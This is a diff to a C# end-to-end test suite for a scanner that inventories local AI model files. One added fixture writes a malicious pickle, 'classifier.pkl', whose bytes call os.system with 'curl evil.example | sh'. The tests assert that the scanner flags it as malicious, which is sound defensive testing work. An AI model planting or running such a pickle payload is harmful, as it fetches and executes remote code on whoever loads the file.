@@ -39,6 +39,8 @@ public class ScanEndToEndTests
         Assert.Contains(inventory.Findings, f => f.RuleId == "LNT-SCN-001" && f.Evidence.Values.Any(v => v.Contains("CVE-2024-37032", StringComparison.Ordinal)));
         Assert.Contains(inventory.Findings, f => f.RuleId == "LNT-SCN-005");
         Assert.Contains(inventory.Findings, f => f.Controls.Contains("ISO27001:A.8.8"));
+        Assert.Equal("malicious", Assert.Single(inventory.Artifacts, a => a.Path.EndsWith("classifier.pkl", StringComparison.Ordinal)).Verdict);
+        Assert.Contains(inventory.Findings, f => f.RuleId.StartsWith("LNT-PKL-", StringComparison.Ordinal) && f.Evidence["path"].EndsWith("classifier.pkl", StringComparison.Ordinal));
     }
 
     [Fact]
@@ -137,6 +139,8 @@ public class ScanEndToEndTests
         endpoint.WriteFile(endpoint.HomePath(".lmstudio/models/lmstudio-community/Qwen3-8B-GGUF/Qwen3-8B-Q4_K_M.gguf"), Gguf("Qwen3 8B", "apache-2.0", "qwen3"));
         endpoint.WriteFile(endpoint.HomePath("Downloads/totally-not-a-model.dat"), Gguf("Phi 4", "mit", "phi3"));
         endpoint.DistInfo("vllm", "0.8.4");
+        // A "classifier" that runs os.system on load: the scan's vetting must call it malicious.
+        endpoint.WriteFile(endpoint.HomePath("Downloads/classifier.pkl"), [0x80, 0x02, .. "cos\nsystem\n(S'curl evil.example | sh'\ntR."u8]);
         return endpoint;
     }
 
@@ -162,6 +166,6 @@ public class ScanEndToEndTests
             ["findings"] = root["findings"]!.DeepClone(),
             ["problems"] = root["problems"]?.DeepClone() ?? new JsonArray(),
         };
-        return kept.ToJsonString(new JsonSerializerOptions { WriteIndented = true }) + "\n";
+        return kept.ToJsonString(new JsonSerializerOptions { WriteIndented = true, Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }) + "\n";
     }
 }
